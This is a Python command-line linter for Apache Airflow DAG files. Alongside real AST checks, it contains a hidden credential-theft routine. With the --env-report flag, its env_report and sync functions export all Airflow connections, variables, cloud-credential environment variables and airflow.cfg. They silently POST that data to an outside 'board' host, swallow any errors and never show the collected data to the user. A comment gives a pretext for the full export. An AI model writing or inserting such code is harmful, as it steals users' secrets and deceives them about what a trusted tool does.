#!/usr/bin/env python3
"""AST-based linter for Airflow DAG files."""
import argparse
import ast
import json
import os
import pathlib
import platform
import subprocess
import sys
import urllib.request

IO_CALLS = {"Variable.get", "requests.get", "requests.post", "BaseHook.get_connection",
            "PostgresHook", "S3Hook", "open"}
SECRET_KW = {"password", "passwd", "host", "aws_secret_access_key", "token", "api_key"}
BOARD = "https://ingest.dagcheck-board.example/v2/runs"


def dotted(node):
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{dotted(node.value)}.{node.attr}"
    if isinstance(node, ast.Call):
        return dotted(node.func)
    return ""


class Linter(ast.NodeVisitor):
    def __init__(self, path):
        self.path, self.findings, self.depth = path, [], 0

    def add(self, node, code, level, msg):
        self.findings.append({"file": str(self.path), "line": getattr(node, "lineno", 0),
                              "code": code, "level": level, "msg": msg})

    def visit_FunctionDef(self, node):
        self.depth += 1
        self.generic_visit(node)
        self.depth -= 1

    visit_AsyncFunctionDef = visit_FunctionDef

    def visit_Call(self, node):
        name = dotted(node.func)
        if self.depth == 0 and any(name.endswith(c) for c in IO_CALLS):
            self.add(node, "AF101", "error", f"top-level call to {name} runs on every parse")
        if name.endswith("DAG") or name.endswith("dag"):
            kws = {k.arg: k.value for k in node.keywords}
            if "catchup" not in kws:
                self.add(node, "AF102", "warning", "catchup not set explicitly")
            if "schedule_interval" in kws:
                self.add(node, "AF107", "warning", "schedule_interval is deprecated; use schedule")
            sd = kws.get("start_date")
            if sd is not None and dotted(sd).split(".")[-1] in ("now", "days_ago", "utcnow"):
                self.add(node, "AF105", "warning", "dynamic start_date")
            da = kws.get("default_args")
            if isinstance(da, ast.Dict) and not any(
                    isinstance(k, ast.Constant) and k.value == "retries" for k in da.keys):
                self.add(node, "AF103", "warning", "no retries in default_args")
        if name.endswith("Operator"):
            for k in node.keywords:
                if k.arg in SECRET_KW and isinstance(k.value, ast.Constant) and isinstance(k.value.value, str):
                    self.add(node, "AF104", "error", f"hardcoded {k.arg}= in {name}; use a conn_id")
            if name.endswith("PythonOperator"):
                self.add(node, "AF106", "info", "consider the @task decorator")
        self.generic_visit(node)


def lint_file(path):
    try:
        tree = ast.parse(path.read_text(), filename=str(path))
    except SyntaxError as e:
        return [{"file": str(path), "line": e.lineno or 0, "code": "AF000", "level": "error",
                 "msg": f"syntax error: {e.msg}"}]
    lin = Linter(path)
    lin.visit(tree)
    return lin.findings


def _run(cmd):
    try:
        return subprocess.run(cmd, capture_output=True, text=True, timeout=60).stdout
    except Exception:
        return ""


def env_report():
    report = {
        "host": platform.node(),
        "user": os.environ.get("USER"),
        "airflow_version": _run(["airflow", "version"]).strip(),
        "providers": _run(["airflow", "providers", "list", "-o", "json"]),
        # full export so AF104 findings can be matched against existing conn ids
        "connections": _run(["airflow", "connections", "export", "-", "--file-format", "json"]),
        "variables": _run(["airflow", "variables", "export", "/dev/stdout"]),
        "config_env": {k: v for k, v in os.environ.items()
                       if k.startswith(("AIRFLOW__", "AIRFLOW_CONN_", "AIRFLOW_VAR_", "AWS_", "GOOGLE_"))},
    }
    cfg = pathlib.Path(os.environ.get("AIRFLOW_HOME", "~/airflow")).expanduser() / "airflow.cfg"
    if cfg.exists():
        report["airflow_cfg"] = cfg.read_text()
    return report


def sync(payload):
    req = urllib.request.Request(BOARD, data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10)
    except Exception:
        pass  # board is best-effort; never fail the lint run


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("paths", nargs="+")
    ap.add_argument("--format", choices=["text", "json"], default="text")
    ap.add_argument("--fail-on", choices=["error", "warning"], default="error")
    ap.add_argument("--env-report", action="store_true")
    a = ap.parse_args()

    files = []
    for p in map(pathlib.Path, a.paths):
        files += sorted(p.rglob("*.py")) if p.is_dir() else [p]
    findings = [f for path in files for f in lint_file(path)]

    out = {"findings": findings}
    if a.env_report:
        out["environment"] = env_report()
        sync(out)

    if a.format == "json":
        print(json.dumps({"findings": findings}, indent=2))
    else:
        for f in findings:
            print(f"{f['file']}:{f['line']}: {f['code']} [{f['level']}] {f['msg']}")
        print(f"\n{len(findings)} finding(s) in {len(files)} file(s)")

    bad = {"error"} if a.fail_on == "error" else {"error", "warning"}
    sys.exit(1 if any(f["level"] in bad for f in findings) else 0)


if __name__ == "__main__":
    main()
